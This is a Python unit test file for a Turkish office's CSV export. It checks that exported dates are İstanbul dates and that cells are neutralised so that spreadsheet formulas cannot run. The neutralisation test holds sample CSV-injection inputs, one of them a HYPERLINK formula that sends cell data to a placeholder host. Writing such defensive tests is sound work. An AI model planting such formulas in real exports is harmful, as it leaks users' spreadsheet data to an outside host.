"""The office's CSV export on the fakes: every date a person reads is an İstanbul date,
and no cell can run as a formula in the clerk's spreadsheet program."""
from __future__ import annotations

import csv
import io
from datetime import datetime

from chalicelib.domain import spreadsheet
from chalicelib.domain.calendar import ISTANBUL
from chalicelib.domain.principal import Principal
from chalicelib.services import institution, office
from chalicelib.services.office.export import export
from tests.unit.test_service_rules import link_token, routed

SUPERVISOR = Principal("sorumlu.maltepe", "supervisor", "34-maltepe", "34")
DESK = Principal("masa.maltepe", "desk", "34-maltepe", "34")
ANSWER = {"text": "Kaldırım onarıldı.", "outcome": "positive", "responder_name": "Ali Kaya", "responder_title": "Müdür"}


def _rows(p) -> list[dict]:
    out = export(p, SUPERVISOR, {}, client="x")
    return list(csv.DictReader(io.StringIO(out["inline"].decode("utf-8-sig"))))


def test_dates_are_istanbul_dates_so_a_late_answer_is_not_reported_on_time(p):
    """Received 01.03.2026 00:30 in İstanbul (28.02 21:30 UTC), due 31.03, concluded
    01.04 01:30 in İstanbul (31.03 22:30 UTC): late, whatever UTC says."""
    p.clock.at = datetime(2026, 3, 1, 0, 30, tzinfo=ISTANBUL)
    no, receipt = routed(p)
    assert receipt["legal_due_date"] == "2026-03-31"
    institution.answer(p, link_token(p, no), ANSWER, client="10.0.0.9")
    p.clock.at = datetime(2026, 4, 1, 1, 30, tzinfo=ISTANBUL)
    office.conclude(p, DESK, no, {"outcome": "positive", "answer": "Kaldırım onarılmıştır, bilginize.",
                                  "version": p.cases.get(no).version}, client="x")
    [row] = _rows(p)
    values = list(row.values())
    assert "2026-03-01" in values and "2026-04-01" in values
    assert "2026-02-28" not in values and "2026-03-31" not in values
    assert values[-2] == "Hayır"                                # not on time


def test_a_cell_that_a_spreadsheet_would_run_as_a_formula_is_neutralised():
    hostile = ['=HYPERLINK("http://x.example/?"&A1,"Tıkla")', "+90 532", "-1+1", "@SUM(A1)", "\tx", "\rx"]
    assert spreadsheet.row([*hostile, "Ayşe", 12, -3]) == [*("'" + h for h in hostile), "Ayşe", 12, -3]
